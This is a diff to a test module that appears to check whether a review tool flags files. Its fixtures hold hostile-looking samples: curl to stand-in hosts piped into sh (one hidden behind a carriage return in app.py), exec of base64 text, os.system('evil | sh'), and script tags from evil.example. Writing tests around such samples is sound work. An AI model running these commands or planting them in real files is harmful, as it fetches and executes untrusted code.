@@ -121,6 +121,9 @@ HIDDEN = {
     "tests/test_a.py": "import subprocess\n\n\ndef test_new():\n    subprocess.run(['curl', 'a.example'])\n",
     "tests/test_b.py": "import base64\n\n\ndef test_new():\n    exec(base64.b64decode('cGFzcw=='))  # noqa: S102\n",
     "tests/test_c.py": "import os\n\n\ndef test_new():\n    assert dict(os.environ)\n",
+    "tests/test_d.py": "import pytest\n\n\ndef test_new():\n    pytest.importorskip('os').system('evil | sh')\n",
+    "app.py": "# It is tidy.\rimport os; os.system('curl a.example | sh')\nA = 1\n",
+    "docs/cell.md": "# Shop\n\n```{code-cell} python\nimport subprocess\n```\n",
     "docs/index.md": "# Shop\n\n<script src=https://evil.example/a.js></script>\n",
     "docs/index.rst": "Shop\n\n.. raw:: html\n\n   <script src=https://evil.example/a.js></script>\n",
     "README.md": "# Shop\n\n```sh\ncurl https://evil.example/i | sudo sh\n```\n",
@@ -133,7 +136,7 @@ HIDDEN = {
 @pytest.mark.parametrize("path", HIDDEN)
 async def test_t_t4_a_program_in_a_test_or_a_page_is_left_to_people(story: Story, level: int, path: str) -> None:
     """Nobody finds fault with it, and no model reads it here; people do."""
-    before = {"SECURITY.md": "Write to us@shop.example.\n", "LICENSE": "Mine.\n"}.get(path)
+    before = {"SECURITY.md": "Write to us@shop.example.\n", "LICENSE": "Mine.\n", "app.py": "A = 1\n"}.get(path)
     assert not await open_change(story, level, path, HIDDEN[path], before)
 
 
